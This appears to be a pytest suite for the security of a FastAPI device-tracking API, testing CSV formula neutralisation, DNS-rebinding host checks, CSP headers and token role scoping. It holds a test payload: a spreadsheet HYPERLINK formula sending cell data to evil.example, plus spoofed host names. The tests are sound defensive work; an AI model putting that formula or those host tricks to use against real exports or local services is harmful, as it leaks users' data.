"""The API against a hostile browser or spreadsheet, in-process (no broker, no socket)."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import re
from collections.abc import Iterator

import httpx
import pytest
from fastapi import FastAPI

from api.app import STATIC, create_app
from api.config import ApiSettings
from api.context import ApiContext
from api.tokens import TokenFile, add_token
from geofence.config import GeofenceSettings
from tracks.store import Store

T0 = dt.datetime(2025, 11, 20, 8, 0, tzinfo=dt.UTC)
EVIL_GRID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
WINDOW = {"start": "2025-11-20T07:00:00+00:00", "end": "2025-11-20T09:00:00+00:00"}


def request(
    app: FastAPI, path: str, host: str = "127.0.0.1:8080", token: str = "", **params: str
) -> httpx.Response:
    """GET ``path`` as a browser that resolved ``host`` to us would send it."""
    headers = {"Authorization": f"Bearer {token}"} if token else {}

    async def get() -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url=f"http://{host}") as client:
            return await client.get(path, params=params, headers=headers)

    return asyncio.run(get())


@pytest.fixture
def store(tmp_path) -> Iterator[Store]:
    """Device ``-d1`` has fixes in a grid named as a formula."""
    with Store(tmp_path / "gp.db") as store:
        for i in range(3):
            store.cursor().execute(
                "INSERT INTO pings (device_id, ts, lat, lon, acc, flags, grid_id, received_at) "
                "VALUES (?, ?, ?, ?, ?, 0, ?, ?)",
                ["-d1", T0 + dt.timedelta(seconds=10 * i), -33.5, -70.6, -1.0, EVIL_GRID, T0],
            )
        yield store


def make_app(store: Store, tokens: TokenFile | None = None) -> FastAPI:
    context = ApiContext(
        store=store,
        grid_set=None,
        live=None,
        geofence=GeofenceSettings(),
        settings=ApiSettings(),
        tokens=tokens,
    )
    return create_app(context)


@pytest.fixture
def app(store) -> FastAPI:
    """No tokens: the loopback mode."""
    return make_app(store)


def test_track_csv_neutralises_formulas_and_keeps_numbers(app):
    response = request(app, "/api/v1/devices/-d1/track", format="csv", **WINDOW)
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 3
    for row in rows:
        assert row["grid_id"] == "'" + EVIL_GRID
        assert row["device_id"] == "'-d1"
        assert (row["lat"], row["lon"], row["acc"]) == ("-33.5", "-70.6", "-1.0")  # numbers


@pytest.mark.parametrize(
    "host", ["127.0.0.1", "127.0.0.1:8080", "localhost", "LOCALHOST:1", "[::1]", "[::1]:8080"]
)
def test_without_tokens_loopback_hosts_are_answered(app, host):
    assert request(app, "/api/v1/devices", host=host).status_code == 200
    assert request(app, "/", host=host).status_code == 200


@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        "evil.example:8080",
        "127.0.0.1.evil.example",
        "localhost.evil.example:8080",
        "127.0.0.1:8080@evil.example",
        "10.0.0.5:8080",
    ],
)
def test_without_tokens_a_foreign_host_gets_421_in_the_error_shape(app, host):
    """DNS rebinding: a page of evil.example whose name now resolves to 127.0.0.1."""
    for path in ("/api/v1/devices", "/api/v1/devices/-d1/track", "/"):
        response = request(app, path, host=host, **WINDOW)
        assert response.status_code == 421, (path, host, response.text)
        error = response.json()["error"]
        assert (error["status"], error["code"]) == (421, "misdirected_request")
        assert "-d1" not in response.text


def test_with_tokens_any_host_is_answered_with_a_token(store, tmp_path):
    """Behind a reverse proxy the API has a real name; the token is the guard there."""
    _, token = add_token(tmp_path / "tokens.jsonl", "admin", [], "ops")
    app = make_app(store, TokenFile(tmp_path / "tokens.jsonl"))
    assert (
        request(app, "/api/v1/devices", host="gridpatrol.example", token=token).status_code == 200
    )
    assert request(app, "/api/v1/devices", host="gridpatrol.example").status_code == 401


def test_security_headers_on_the_map_the_api_and_exports(app):
    for path, params, cached in (
        ("/", {}, True),
        ("/static/map.js", {}, True),
        ("/api/v1/devices", {}, False),
        ("/api/v1/devices/-d1/track", {**WINDOW, "format": "csv"}, False),
        ("/api/v1/devices/-d1/track", {**WINDOW, "format": "parquet"}, False),
        ("/api/v1/nothing-here", {}, False),
    ):
        response = request(app, path, **params)
        headers = response.headers
        assert response.status_code in (200, 404), path
        csp = headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp, path
        assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
        assert headers["x-content-type-options"] == "nosniff", path
        assert headers["referrer-policy"] == "no-referrer", path
        assert (headers.get("cache-control") == "no-store") is not cached, path
    refused = request(app, "/api/v1/devices", host="evil.example").headers
    assert refused["cache-control"] == "no-store" and "content-security-policy" in refused


def test_the_map_has_no_inline_script_or_style():
    """What the policy forbids, the map must not need (the browser test sees it run)."""
    for page in STATIC.glob("*.html"):
        html = page.read_text()
        assert not re.search(r"<script(?![^>]*\bsrc=)", html), page
        assert not re.search(r"<style|\sstyle=|\son[a-z]+=|javascript:", html, re.I), page


def test_docs_pages_from_a_cdn_are_off_and_the_schema_stays(app):
    assert request(app, "/docs").status_code == 404
    assert request(app, "/redoc").status_code == 404
    schema = request(app, "/openapi.json")
    assert schema.status_code == 200 and "/api/v1/devices" in schema.json()["paths"]


@pytest.fixture
def tokens(tmp_path) -> dict[str, str]:
    """One token of each role in ``tokens.jsonl``."""
    path = tmp_path / "tokens.jsonl"
    return {
        role: add_token(path, role, ["A"] if role == "supervisor" else [], role)[1]
        for role in ("admin", "supervisor", "metrics")
    }


def test_health_detail_is_for_admin_and_metrics_tokens_the_status_for_anyone(
    store, tmp_path, tokens
):
    app = make_app(store, TokenFile(tmp_path / "tokens.jsonl"))
    for token in ("", "gp_wrong", tokens["supervisor"]):
        r = request(app, "/api/v1/health", token=token)
        assert (r.status_code, r.json()) == (200, {"status": "ok"}), token
    for role in ("admin", "metrics"):
        r = request(app, "/api/v1/health", token=tokens[role])
        assert r.status_code == 200 and {"status", "problems", "database"} <= set(r.json())


def test_deployment_wide_figures_are_for_admin_and_metrics_tokens(store, tmp_path, tokens):
    app = make_app(store, TokenFile(tmp_path / "tokens.jsonl"))
    for path in ("/api/v1/metrics", "/api/v1/stats"):
        assert request(app, path, token=tokens["supervisor"]).status_code == 403, path
        assert request(app, path, token=tokens["metrics"]).status_code == 200, path
        assert request(app, path, token=tokens["admin"]).status_code == 200, path
        assert request(app, path).status_code == 401, path
    # a metrics token reads no worker's position, track or report
    refused = request(app, "/api/v1/devices", token=tokens["metrics"])
    assert refused.status_code == 403 and refused.json()["error"]["code"] == "forbidden"
    track = request(app, "/api/v1/devices/-d1/track", token=tokens["metrics"], **WINDOW)
    assert track.status_code == 403


def test_the_alerts_limit_counts_the_supervisors_alerts_only(store, tmp_path):
    """Ten newer alerts of grid B before one of A: a supervisor of A asking for one gets
    A's (the limit applied after the scope, not before)."""
    rows = [("A", T0)] + [("B", T0 + dt.timedelta(minutes=i + 1)) for i in range(10)]
    for grid, at in rows:
        store.cursor().execute(
            "INSERT INTO alerts VALUES (?, 'overdue', ?, NULL, ?, ?, '')",
            [f"overdue:{grid}:{at.timestamp()}", grid, at, at],
        )
    _, token = add_token(tmp_path / "tokens.jsonl", "supervisor", ["A"], "Zhao")
    _, admin = add_token(tmp_path / "tokens.jsonl", "admin", [], "ops")
    app = make_app(store, TokenFile(tmp_path / "tokens.jsonl"))
    since = (T0 - dt.timedelta(hours=1)).isoformat()
    got = request(app, "/api/v1/alerts", token=token, since=since, limit="1").json()
    assert [a["grid_id"] for a in got] == ["A"]
    assert len(request(app, "/api/v1/alerts", token=admin, since=since, limit="5").json()) == 5
